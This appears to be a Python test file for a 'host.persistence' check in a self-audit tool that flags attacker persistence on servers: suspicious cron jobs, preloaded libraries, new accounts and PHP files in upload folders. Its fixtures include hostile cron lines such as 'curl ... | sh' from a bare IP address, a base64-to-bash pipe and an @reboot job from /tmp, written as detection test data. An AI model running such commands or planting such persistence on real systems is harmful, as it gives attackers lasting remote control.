"""host.persistence."""

from __future__ import annotations

from selfaudit.case.dates import read_date
from selfaudit.facts import Fact
from selfaudit.facts.host import PartStatus
from selfaudit.policy import Policy
from tests.checks.build import Scenario
from tests.checks.host import SCOPE, part, report

CHECK = "host.persistence"

OLD, NEW = "2026-01-05T10:00:00Z", "2026-11-10T10:00:00Z"
CRON = f"/etc/cron.d/php|{OLD}|root|09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n/var/spool/cron/crontabs/www-data|{OLD}|www-data|*/5 * * * * wget -q -O /dev/null https://shop.example/wp-cron.php"
GOOD: dict[str, str | PartStatus] = {
    "persistence.cron": CRON, "persistence.timers": f"backup.timer|{OLD}|backup.service", "persistence.preload": "",
    "persistence.files": f"/usr/local/bin/backup|{OLD}|root", "persistence.accounts": f"passwd={OLD}\nshadow={OLD}\ngroup={OLD}", "persistence.uploads": "",
}  # fmt: skip
SUSPENDED = Policy(suspended=read_date("2026-11-20T12:00:00Z"))
UPLOAD = "/var/www/shop/wp-content/uploads/2026/11/x.php"


def facts(parts: dict[str, str | PartStatus] | None = None, **fields: object) -> list[Fact]:
    return [report({**GOOD, **(parts or {})}, **fields), SCOPE]  # type: ignore[arg-type]


def job(line: str, changed: str = OLD) -> dict[str, str | PartStatus]:
    return {"persistence.cron": f"/var/spool/cron/crontabs/root|{changed}|root|{line}"}


NOT_GOOD = ["PERSISTENCE_NOTHING_FOUND"]
SCENARIOS = [
    Scenario("nothing", facts(), ["PERSISTENCE_NOTHING_FOUND"], "pass", args={"day": "2026-10-23"}),
    Scenario("nothing since the suspension", facts(), ["PERSISTENCE_NOTHING_FOUND"], "pass", args={"day": "2026-10-21"}, policy=SUSPENDED),
    Scenario("no such programs or folders", facts({"persistence.timers": PartStatus.ABSENT, "persistence.uploads": PartStatus.ABSENT}, system="alpine"), ["PERSISTENCE_NOTHING_FOUND"], "pass"),
    Scenario("preload", facts({"persistence.preload": f"{OLD}|/lib/libprocesshider.so"}), ["PERSISTENCE_PRELOAD"], "fail", NOT_GOOD, {"items": ("/lib/libprocesshider.so",)}),
    Scenario("preload of a known name in a strange place", facts({"persistence.preload": f"{OLD}|/tmp/libjemalloc.so"}), ["PERSISTENCE_PRELOAD"], "fail", NOT_GOOD),
    Scenario("preload known", facts({"persistence.preload": f"{OLD}|/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}), ["PERSISTENCE_PRELOAD_KNOWN"], "warn", NOT_GOOD),
    Scenario("curl | sh", facts(job("*/5 * * * * curl -fsSL http://203.0.113.7/x | sh")), ["PERSISTENCE_JOBS"], "fail", NOT_GOOD),
    Scenario("base64", facts(job("* * * * * echo aGk= | base64 -d | bash")), ["PERSISTENCE_JOBS"], "fail", NOT_GOOD),
    Scenario("from /tmp", facts(job("@reboot /tmp/.x/kdev >/dev/null 2>&1")), ["PERSISTENCE_JOBS"], "fail", NOT_GOOD),
    Scenario("a unit from /var/tmp", facts({"persistence.timers": f"netd.service|{OLD}|ExecStart=/var/tmp/netd"}), ["PERSISTENCE_JOBS"], "fail", NOT_GOOD),
    Scenario("a bare address", facts(job("0 4 * * * curl -s http://203.0.113.9/list")), ["PERSISTENCE_JOBS_TO_LOOK_AT"], "warn", NOT_GOOD),
    Scenario("this server's own address", facts(job("0 4 * * * curl -s http://127.0.0.1/cron.php > /dev/null")), ["PERSISTENCE_NOTHING_FOUND"], "pass"),
    Scenario("clears /tmp", facts(job("0 4 * * * find /tmp -mtime +7 -delete")), ["PERSISTENCE_NOTHING_FOUND"], "pass"),
    Scenario("PHP in uploads since", facts({"persistence.uploads": f"{UPLOAD}|{NEW}|4711"}), ["PERSISTENCE_UPLOADS_NEW"], "fail", NOT_GOOD, policy=SUSPENDED),
    Scenario("PHP in uploads, no suspension known", facts({"persistence.uploads": f"{UPLOAD}|{NEW}|4711"}), ["PERSISTENCE_UPLOADS"], "warn", NOT_GOOD),
    Scenario("PHP in uploads, old", facts({"persistence.uploads": f"{UPLOAD}|{OLD}|4711"}), ["PERSISTENCE_UPLOADS"], "warn", NOT_GOOD, policy=SUSPENDED),
    Scenario("a silent index.php, old", facts({"persistence.uploads": f"/var/www/shop/wp-content/uploads/index.php|{OLD}|28"}), ["PERSISTENCE_NOTHING_FOUND"], "pass", policy=SUSPENDED),
    Scenario("a small index.php, new", facts({"persistence.uploads": f"/var/www/shop/wp-content/uploads/index.php|{NEW}|90"}), ["PERSISTENCE_SMALL_INDEX_FILES"], "warn", [*NOT_GOOD, "PERSISTENCE_UPLOADS_NEW"], {"command": "head -c 200 /var/www/shop/wp-content/uploads/index.php"}, SUSPENDED),
    Scenario("a small index.php, no suspension known", facts({"persistence.uploads": f"/var/www/shop/wp-content/uploads/index.php|{NEW}|90"}), ["PERSISTENCE_SMALL_INDEX_FILES"], "warn", NOT_GOOD),
    Scenario("an index.php of unknown size", facts({"persistence.uploads": "/var/www/shop/wp-content/uploads/index.php|-|-"}), ["PERSISTENCE_UPLOADS_NEW"], "fail", NOT_GOOD, policy=SUSPENDED),
    Scenario("PHP with a line end in its name", facts({"persistence.uploads": "/var/www/shop/wp-content/uploads/a?b.php|-|-"}), ["PERSISTENCE_UPLOADS_NEW"], "fail", NOT_GOOD, {"items": ("/var/www/shop/wp-content/uploads/a?b.php",)}, SUSPENDED),
    Scenario("PHP with a line end in its name, no suspension known", facts({"persistence.uploads": "/var/www/shop/wp-content/uploads/a?b.php|-|-"}), ["PERSISTENCE_UPLOADS"], "warn", NOT_GOOD),
    Scenario("a start file with a line end in its name", facts({"persistence.files": "/etc/cron.d/a?b|-|-"}), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD, {"items": ("/etc/cron.d/a?b (day not known)",)}),
    Scenario("a file without a name", facts({"persistence.files": "|-|-"}), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD),
    Scenario("a job with a line end in its name", facts({"persistence.cron": "/etc/cron.d/a?b|-|-"}), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD),
    Scenario("start files with a note", [report({k: v for k, v in GOOD.items() if k != "persistence.files"}, more=(part("persistence.files", "", note="not-root"),)), SCOPE], ["PERSISTENCE_NOT_IN_FILE"], "inconclusive", NOT_GOOD),
    Scenario("a big index.php", facts({"persistence.uploads": f"/var/www/shop/wp-content/uploads/index.php|{NEW}|2800"}), ["PERSISTENCE_UPLOADS_NEW"], "fail", policy=SUSPENDED),
    Scenario("compiled templates", facts({"persistence.uploads": f"/var/www/d/sites/default/files/php/twig/a.php|{NEW}|3000"}), ["PERSISTENCE_CACHES"], "warn", ["PERSISTENCE_UPLOADS_NEW"], policy=SUSPENDED),
    Scenario("old caches", facts({"persistence.uploads": f"/var/www/j/cache/a.php|{OLD}|3000"}), ["PERSISTENCE_NOTHING_FOUND"], "pass"),
    Scenario("changes since the suspension", facts({"persistence.files": f"/etc/profile.d/x.sh|{NEW}|root", "persistence.accounts": f"passwd={NEW}\nshadow={NEW}\ngroup={OLD}"}), ["PERSISTENCE_CHANGES_SINCE"], "warn", NOT_GOOD, {"items": ("/etc/profile.d/x.sh (2026-11-10)", "/etc/passwd (2026-11-10)", "/etc/shadow (2026-11-10)")}, SUSPENDED),
    Scenario("changes without a suspension", facts({"persistence.timers": f"x.timer|{NEW}|x.service"}), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD),
    Scenario("changed at an unknown time", facts({"persistence.files": "/usr/local/bin/x|?|root"}), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD),
    *(Scenario(f"{name} {s}", facts({name: s}), ["PERSISTENCE_NOT_IN_FILE"], "inconclusive", NOT_GOOD) for name in GOOD for s in PartStatus if s not in (PartStatus.OK, PartStatus.ABSENT)),
    Scenario("files absent", facts({"persistence.files": PartStatus.ABSENT}), ["PERSISTENCE_NOT_IN_FILE"], "inconclusive", NOT_GOOD),
    Scenario("jobs cut off", [report({k: v for k, v in GOOD.items() if k != "persistence.cron"}, more=(part("persistence.cron", CRON, cut=True),)), SCOPE], ["PERSISTENCE_NOT_IN_FILE"], "inconclusive", NOT_GOOD),
    Scenario("without rights", facts(root=False), ["PERSISTENCE_NOT_IN_FILE"], "inconclusive", NOT_GOOD),
    Scenario("rescue, all of it from the disk", facts(rescue=True), ["PERSISTENCE_NOTHING_FOUND"], "pass"),
    Scenario("windows", facts(dict.fromkeys(("persistence.cron", "persistence.preload", "persistence.files", "persistence.uploads"), PartStatus.SKIPPED) | {"persistence.timers": f"\\Updater|{OLD}|C:\\x.exe", "persistence.accounts": f"account=Administrator,{OLD}"}, system="windows"), ["PERSISTENCE_NOTHING_FOUND"], "pass"),
    Scenario("windows, a new account", facts({"persistence.accounts": f"account=support$,{NEW}"}, system="windows"), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD, {"items": ("support$ (2026-11-10)",)}),
    Scenario("windows, an account of unknown age", facts({"persistence.accounts": "account=a?b,-"}, system="windows"), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD, {"items": ("a?b (day not known)",)}),
    Scenario("windows, without the key", facts({"persistence.accounts": f"support$,{NEW}"}, system="windows"), ["PERSISTENCE_CHANGES_RECENT"], "warn", NOT_GOOD, {"items": ("support$ (2026-11-10)",)}),
    Scenario("new passwords after the suspension", facts({"persistence.accounts": "passwd=2025-01-01T00:00:00Z\nshadow=2026-11-21T09:00:00Z\ngroup=2025-01-01T00:00:00Z"}), ["PERSISTENCE_NOTHING_FOUND"], "pass", policy=SUSPENDED),
    Scenario("passwords changed before the suspension", facts({"persistence.accounts": "passwd=2025-01-01T00:00:00Z\nshadow=2026-11-20T09:00:00Z\ngroup=2025-01-01T00:00:00Z"}), ["PERSISTENCE_CHANGES_SINCE"], "warn", NOT_GOOD, policy=SUSPENDED),
    Scenario("accounts changed after the suspension", facts({"persistence.accounts": "passwd=2026-11-21T09:00:00Z\nshadow=2026-11-21T09:00:00Z\ngroup=2025-01-01T00:00:00Z"}), ["PERSISTENCE_CHANGES_SINCE"], "warn", NOT_GOOD, policy=SUSPENDED),
    Scenario("other host", [report({"addresses": "eth0|198.51.100.7/24", "host": "name=x.other.example", **GOOD}, name="x.other.example"), SCOPE], ["PERSISTENCE_OTHER_HOST"], "inconclusive", NOT_GOOD),
    Scenario("too old", facts(taken="2026-11-01T06:00:00Z"), ["PERSISTENCE_TOO_OLD"], "inconclusive", NOT_GOOD),
    Scenario("clock", facts(taken="2027-11-01T06:00:00Z"), ["PERSISTENCE_CLOCK"], "inconclusive", NOT_GOOD),
    Scenario("changed", facts(genuine=False, damage=("x",)), ["PERSISTENCE_CHANGED"], "inconclusive", NOT_GOOD),
]  # fmt: skip
